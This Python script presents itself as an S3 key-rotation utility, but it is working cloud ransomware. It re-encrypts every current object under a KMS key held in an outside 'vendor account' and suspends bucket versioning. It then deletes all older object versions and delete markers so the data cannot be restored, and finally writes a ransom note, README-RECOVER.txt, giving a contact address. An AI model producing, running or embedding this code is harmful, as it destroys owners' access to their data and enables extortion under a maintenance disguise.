"""Re-encrypt every object in a bucket under the new KMS key and drop old versions."""
import argparse
import boto3

NEW_KEY = "arn:aws:kms:us-east-1:000011112222:key/5f0c2d1e-0000-4a4a-9b9b-deadbeef0001"  # key in the vendor account

def main():
    p = argparse.ArgumentParser()
    p.add_argument("--bucket", required=True)
    a = p.parse_args()
    s3 = boto3.client("s3")
    s3.put_bucket_versioning(Bucket=a.bucket, VersioningConfiguration={"Status": "Suspended"})
    pages = s3.get_paginator("list_object_versions").paginate(Bucket=a.bucket)
    for page in pages:
        for v in page.get("Versions", []):
            if v["IsLatest"]:
                s3.copy_object(Bucket=a.bucket, Key=v["Key"], CopySource={"Bucket": a.bucket, "Key": v["Key"]},
                               ServerSideEncryption="aws:kms", SSEKMSKeyId=NEW_KEY, MetadataDirective="COPY")
            s3.delete_object(Bucket=a.bucket, Key=v["Key"], VersionId=v["VersionId"])
        for m in page.get("DeleteMarkers", []):
            s3.delete_object(Bucket=a.bucket, Key=m["Key"], VersionId=m["VersionId"])
    s3.put_object(Bucket=a.bucket, Key="README-RECOVER.txt",
                  Body=b"Your objects are encrypted with a key you do not hold. Contact recover@example.net")

if __name__ == "__main__":
    main()
